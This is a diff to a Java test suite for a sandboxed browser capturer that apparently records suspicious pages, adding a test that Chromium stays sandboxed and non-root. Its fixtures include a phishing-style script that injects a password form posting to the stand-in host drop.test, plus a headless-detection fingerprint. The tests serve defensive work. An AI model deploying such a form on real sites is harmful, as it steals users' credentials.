@@ -11,9 +11,13 @@ import com.fasterxml.jackson.databind.ObjectMapper;
 import java.io.IOException;
 import java.net.URI;
 import java.nio.charset.StandardCharsets;
+import java.nio.file.Files;
+import java.nio.file.Path;
 import java.time.Clock;
 import java.util.List;
 import java.util.Optional;
+import java.util.concurrent.CopyOnWriteArrayList;
+import java.util.stream.Stream;
 import org.junit.jupiter.api.AfterEach;
 import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
@@ -79,20 +83,26 @@ class BrowserCapturerTest {
                         .toList());
         assertEquals(Optional.of("a=b"), capture.last().answer().orElseThrow().header("set-cookie"));
         assertEquals("127.44.9.1", capture.last().address().orElseThrow().text());
-        assertEquals(List.of("evil.test"), capture.last().tls().orElseThrow().leaf().names());
-        assertEquals(List.of(Flaw.UNTRUSTED_ISSUER), capture.last().tls().orElseThrow().flaws());
+        assertEquals(
+                List.of("evil.test"), capture.last().tls().orElseThrow().leaf().names());
+        assertEquals(
+                List.of(Flaw.UNTRUSTED_ISSUER),
+                capture.last().tls().orElseThrow().flaws());
         assertEquals(Instrument.BROWSER, capture.method().instrument());
         JsonNode har = new ObjectMapper()
-                .readTree(world.evidence.get(
-                        capture.traffic().har().orElseThrow().sha256()));
+                .readTree(
+                        world.evidence.get(capture.traffic().har().orElseThrow().sha256()));
         assertTrue(har.path("log").path("entries").size() >= 5, har.toString());
     }
 
     @Test
     void keepsTheOctetsOfTheDocumentAndThePageAsShown() {
-        world.site.put("/l1", "", "<html lang=de><title>x</title><link rel=icon href=/i.png><body><script>"
-                + "document.title='Anmeldung';document.body.innerHTML='<form action=//drop.test/in method=post>"
-                + "<input type=password name=p></form>'</script>");
+        world.site.put(
+                "/l1",
+                "",
+                "<html lang=de><title>x</title><link rel=icon href=/i.png><body><script>"
+                        + "document.title='Anmeldung';document.body.innerHTML='<form action=//drop.test/in method=post>"
+                        + "<input type=password name=p></form>'</script>");
         world.site.put("/i.png", "", "an icon");
 
         PageSeen page = capture("/l1").page().orElseThrow();
@@ -118,9 +128,12 @@ class BrowserCapturerTest {
 
     @Test
     void aPhoneIsAPhone() {
-        world.site.put("/m", "", "<meta name=viewport content='width=device-width'><script>document.title=[innerWidth,"
-                + "navigator.maxTouchPoints,matchMedia('(pointer:coarse)').matches,navigator.language,"
-                + "Intl.DateTimeFormat().resolvedOptions().timeZone,/Headless/.test(navigator.userAgent)].join()</script>");
+        world.site.put(
+                "/m",
+                "",
+                "<meta name=viewport content='width=device-width'><script>document.title=[innerWidth,"
+                        + "navigator.maxTouchPoints,matchMedia('(pointer:coarse)').matches,navigator.language,"
+                        + "Intl.DateTimeFormat().resolvedOptions().timeZone,/Headless/.test(navigator.userAgent)].join()</script>");
 
         Capture capture = capture(new CaptureRequest(
                 URI.create("http://evil.test/m"), new Visitor(Visitor.OWN_NETWORK, Visitor.Profile.MOBILE)));
@@ -169,7 +182,35 @@ class BrowserCapturerTest {
     }
 
     @Test
+    void whileAPageIsShownItsProcessIsInChromiumsSandboxAndNoneIsRoot() {
+        List<String> states = new CopyOnWriteArrayList<>();
+        world.site.when("/now.png", () -> ProcessHandle.current()
+                .descendants()
+                .flatMap(process -> status(process.pid()))
+                .filter(status -> status.contains("Name:\tchromium"))
+                .forEach(states::add));
+        world.site.put("/page", "", "<img src=/now.png>");
+
+        capture("/page");
+
+        assertTrue(states.stream().anyMatch(status -> status.contains("Seccomp:\t2")), states.toString());
+        assertTrue(states.stream().noneMatch(status -> status.matches("(?s).*\\nUid:[\t0-9]*\t0\t.*")), states.toString());
+        assertTrue(
+                states.stream().allMatch(status -> status.matches("(?s).*\\nNSpid:\t[0-9]+\t[0-9]+.*")),
+                states.toString());
+    }
+
+    private static Stream<String> status(long pid) {
+        try {
+            return Stream.of(Files.readString(Path.of("/proc/" + pid + "/status")));
+        } catch (IOException ended) {
+            return Stream.empty();
+        }
+    }
+
+    @Test
     void theSandboxIsNeverSwitchedOff() {
-        assertTrue(Flags.all().stream().noneMatch(flag -> flag.contains("no-sandbox") || flag.contains("disable-seccomp")));
+        assertTrue(Flags.all().stream()
+                .noneMatch(flag -> flag.contains("no-sandbox") || flag.contains("disable-seccomp")));
     }
 }
